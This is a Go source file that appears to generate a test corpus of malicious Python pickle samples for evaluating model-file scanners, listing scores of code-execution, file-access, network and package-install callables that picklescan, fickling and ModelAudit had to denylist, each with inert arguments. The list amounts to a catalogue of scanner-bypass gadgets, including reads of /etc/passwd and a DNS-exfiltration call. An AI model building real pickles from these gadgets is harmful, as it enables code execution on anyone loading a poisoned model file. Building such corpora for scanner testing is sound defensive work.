package corpus

import (
	"strings"

	pa "github.com/mlsec/mlsec/internal/pickleasm"
)

// A gadget is one callable that picklescan, fickling or ModelAudit had to
// add to a denylist after a report (survey §5.3), with inert arguments.
type gadget struct {
	module, name string
	args         []any
	ref          string
}

// gadgets lists one sample per gadget of survey §5.3, plus the classic
// code-execution callables every denylist starts from.
var gadgets = []gadget{
	// Classic process and eval entry points.
	{"os", "system", []any{"echo hi"}, "picklescan denylist"},
	{"nt", "system", []any{"echo hi"}, "picklescan denylist (Windows os)"},
	{"os", "popen", []any{"echo hi"}, "picklescan denylist"},
	{"subprocess", "Popen", []any{[]string{"echo", "hi"}}, "picklescan denylist"},
	{"subprocess", "run", []any{"echo hi"}, "picklescan denylist"},
	{"subprocess", "check_output", []any{"echo hi"}, "picklescan denylist"},
	{"builtins", "eval", []any{"print('hi')"}, "picklescan malicious1"},
	{"builtins", "exec", []any{"print('hi')"}, "picklescan denylist"},
	{"__builtin__", "eval", []any{"print('hi')"}, "picklescan denylist (Python 2 name)"},
	{"builtins", "compile", []any{"print('hi')", "<x>", "exec"}, "picklescan denylist"},
	{"builtins", "open", []any{"/tmp/mlsec-corpus", "w"}, "picklescan denylist"},
	{"builtins", "breakpoint", nil, "picklescan denylist"},
	{"builtins", "__import__", []any{"os"}, "modelscan denylist; fickling GHSA-h4rm"},
	{"runpy", "_run_code", []any{"print('hi')", map[string]string{}}, "picklescan malicious14"},
	{"pty", "spawn", []any{"echo hi"}, "picklescan denylist"},
	{"shutil", "rmtree", []any{"/tmp/mlsec-corpus"}, "picklescan denylist"},
	{"webbrowser", "open", []any{"https://example.invalid/"}, "picklescan denylist"},
	{"requests.api", "get", []any{"https://example.invalid/"}, "picklescan malicious4"},
	{"aiohttp.client", "request", []any{"GET", "https://example.invalid/"}, "picklescan malicious5"},
	{"marshal", "loads", []any{[]byte("\xe3")}, "picklescan PR #74"},
	{"pydoc", "pipepager", []any{"hi", "echo hi"}, "picklescan malicious18"},
	{"sys", "exit", []any{0}, "picklescan malicious9"},
	// Profilers and tracers.
	{"timeit", "timeit", []any{"print('hi')"}, "picklescan malicious21"},
	{"cProfile", "run", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"cProfile", "runctx", []any{"print('hi')", map[string]string{}, map[string]string{}}, "picklescan GHSA corpus"},
	{"profile", "run", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"profile", "runctx", []any{"print('hi')", map[string]string{}, map[string]string{}}, "picklescan GHSA corpus"},
	{"trace", "Trace.run", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"trace", "Trace.runctx", []any{"print('hi')", map[string]string{}, map[string]string{}}, "picklescan GHSA corpus"},
	{"bdb", "Bdb.run", []any{"print('hi')"}, "picklescan malicious15"},
	{"pdb", "run", []any{"print('hi')"}, "picklescan denylist"},
	// Interpreter entry points.
	{"code", "InteractiveInterpreter.runcode", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"doctest", "debug_script", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"lib2to3.pgen2.grammar", "Grammar.loads", []any{[]byte("x")}, "picklescan GHSA corpus"},
	{"lib2to3.pgen2.pgen", "ParserGenerator.make_label", []any{"c", "x"}, "picklescan GHSA corpus"},
	{"idlelib.pyshell", "ModifiedInterpreter.runcode", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"idlelib.pyshell", "ModifiedInterpreter.runcommand", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"idlelib.run", "Executive.runcode", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"idlelib.autocomplete", "AutoComplete.get_entity", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"idlelib.autocomplete", "AutoComplete.fetch_completions", []any{"print('hi')", 1}, "picklescan GHSA corpus"},
	{"idlelib.calltip", "Calltip.fetch_tip", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"idlelib.calltip", "get_entity", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"idlelib.debugobj", "ObjectTreeItem.SetText", []any{"print('hi')"}, "picklescan GHSA corpus"},
	// Package installation.
	{"ensurepip", "_run_pip", []any{[]string{"install", "example"}}, "picklescan GHSA corpus"},
	{"pip", "main", []any{[]string{"install", "example", "--no-input", "-q"}}, "CVE-2025-1716"},
	{"venv", "create", []any{"$(echo hi)"}, "picklescan malicious20"},
	// File access.
	{"distutils.file_util", "write_file", []any{"/tmp/mlsec-corpus", []string{"hi"}}, "picklescan GHSA corpus"},
	{"logging", "FileHandler", []any{"/tmp/mlsec-corpus"}, "picklescan GHSA corpus"},
	{"_io", "FileIO", []any{"/tmp/mlsec-corpus", "w"}, "picklescan GHSA corpus"},
	// Network.
	{"urllib.request", "urlopen", []any{"https://example.invalid/"}, "picklescan GHSA corpus"},
	{"ssl", "get_server_certificate", []any{func(a *pa.Asm) { a.Unicode("x.example.invalid").Int(443).Tuple2() }}, "picklescan GHSA corpus (DNS exfiltration)"},
	{"http.client", "HTTPSConnection", []any{"example.invalid"}, "picklescan malicious3"},
	{"socket", "create_connection", []any{func(a *pa.Asm) { a.Unicode("example.invalid").Int(80).Tuple2() }}, "picklescan malicious6"},
	{"smtplib", "SMTP", []any{"127.0.0.1"}, "fickling GHSA-mxhj-88fx-4pcv"},
	{"imaplib", "IMAP4_stream", []any{"echo hi"}, "picklescan GHSA corpus"},
	// Hidden subprocess calls.
	{"uuid", "_get_command_stdout", []any{"echo", "hi"}, "picklescan GHSA corpus"},
	{"_osx_support", "_find_build_tool", []any{"echo hi"}, "picklescan GHSA corpus"},
	{"_aix_support", "_read_cmd_output", []any{"echo hi"}, "picklescan GHSA corpus"},
	{"_pyrepl.pager", "pipe_pager", []any{"hi", "echo hi"}, "picklescan GHSA corpus"},
	{"test.support.script_helper", "assert_python_ok", []any{"-c", "print('hi')"}, "picklescan GHSA corpus"},
	{"mailcap", "findmatch", []any{map[string]string{}, "text/plain"}, "picklescan PR #69"},
	{"multiprocessing.util", "spawnv_passfds", []any{"/bin/echo", []string{"echo", "hi"}, func(a *pa.Asm) { a.EmptyTuple() }}, "fickling UNSAFE_IMPORTS"},
	// Native code and code objects.
	{"ctypes", "CDLL", []any{"libc.so.6"}, "picklescan denylist"},
	{"types", "CodeType", []any{0, 0}, "picklescan types_CodeType.pkl"},
	{"cloudpickle.cloudpickle", "_make_function", []any{nil, map[string]string{}}, "picklescan cloudpickle_codeinjection.pkl"},
	{"cloudpickle.cloudpickle", "_builtin_type", []any{"CodeType"}, "picklescan denylist"},
	// Subinterpreters.
	{"_interpreters", "create", nil, "fickling UNSAFE_IMPORTS"},
	{"_xxsubinterpreters", "run_string", []any{0, "print('hi')"}, "fickling UNSAFE_IMPORTS"},
	// Misc stdlib.
	{"linecache", "getlines", []any{"/etc/passwd"}, "fickling UNSAFE_IMPORTS"},
	{"difflib", "restore", []any{[]string{"hi"}, 1}, "fickling UNSAFE_IMPORTS"},
	{"gc", "get_objects", nil, "fickling UNSAFE_IMPORTS"},
	{"platform", "_syscmd_file", []any{"/etc/passwd"}, "fickling UNSAFE_IMPORTS"},
	{"inspect", "getsource", []any{"os"}, "fickling UNSAFE_IMPORTS"},
	{"numpy.testing._private.utils", "runstring", []any{"print('hi')", map[string]string{}}, "picklescan malicious22"},
	{"numpy.f2py.crackfortran", "getlincoef", []any{"print('hi')", map[string]string{}}, "picklescan GHSA corpus"},
	// torch.
	{"torch.utils.bottleneck.__main__", "run_cprofile", []any{"print('hi')", map[string]string{}}, "picklescan GHSA corpus"},
	{"torch.utils.bottleneck.__main__", "run_autograd_prof", []any{"print('hi')", map[string]string{}}, "picklescan GHSA corpus"},
	{"torch._dynamo.guards", "GuardBuilder.get", []any{"print('hi')"}, "picklescan GHSA corpus"},
	{"torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", []any{"print('hi')", []string{}}, "picklescan GHSA corpus"},
	{"torch.utils.collect_env", "run", []any{"echo hi"}, "picklescan GHSA corpus"},
	{"torch.utils.collect_env", "run_and_read_all", []any{nil, "echo hi"}, "picklescan GHSA corpus"},
	{"torch.jit.unsupported_tensor_ops", "execWrapper", []any{"print('hi')", map[string]string{}, map[string]string{}}, "picklescan GHSA corpus"},
	{"torch._inductor.codecache", "compile_file", []any{"x.c", "x.so", []string{"echo", "hi"}}, "picklescan malicious17"},
	{"torch.serialization", "load", []any{"evil.pt"}, "picklescan malicious19"},
	{"torch.hub", "load", []any{"attacker/repo", "model"}, "fickling UnsafeImportsML"},
	{"torch.hub", "load_state_dict_from_url", []any{"https://example.invalid/evil.pt"}, "fickling pickle_scanning_benchmark"},
	// Third party (modelscan #338, real Hugging Face samples).
	{"mlflow.projects.backend.local", "_run_entry_point", []any{"echo hi", "/tmp", "local", map[string]string{}}, "modelscan #338"},
	{"pandas.io.parsers.readers", "read_csv", []any{"https://example.invalid/exfil.csv"}, "modelscan #338"},
	{"transformers.models.auto.auto_factory", "getattribute_from_module", []any{"transformers", "AutoTokenizer"}, "modelscan #338"},
}

// gadgetFile names a gadget's sample: gadget_<module>_<name>.pkl.
func gadgetFile(g gadget) string {
	r := strings.NewReplacer(".", "_", "/", "_")
	return "gadget/" + r.Replace(g.module) + "__" + r.Replace(g.name) + ".pkl"
}

func gadgetSamples() []Sample {
	var out []Sample
	for _, g := range gadgets {
		out = append(out, mal(gadgetFile(g), "5.3", "gadget "+g.module+"."+g.name+" called via REDUCE", g.ref,
			reduceP4(g.module, g.name, g.args...), callRules...))
	}
	return out
}
